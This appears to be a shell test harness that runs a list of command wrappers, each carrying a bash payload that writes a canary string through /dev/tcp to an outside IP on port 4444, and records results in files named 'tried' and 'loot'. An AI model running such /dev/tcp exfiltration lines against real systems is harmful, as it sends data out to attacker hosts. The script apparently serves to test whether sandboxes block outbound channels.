#!/bin/sh
: > "$ARENA/ws/ran"
while IFS='	' read -r row command; do
  echo "$row" >> tried
  if [ "$row" = granted ]; then curl -s -m 3 http://test.example/ | sed -n "s/.*$CANARY.*/$CANARY-granted-/p" >> loot; continue; fi
  timeout 1 sh -c "$command bash -c 'echo $CANARY-$row- > /dev/tcp/93.184.216.66/4444'"
done < .attack/rows.tsv
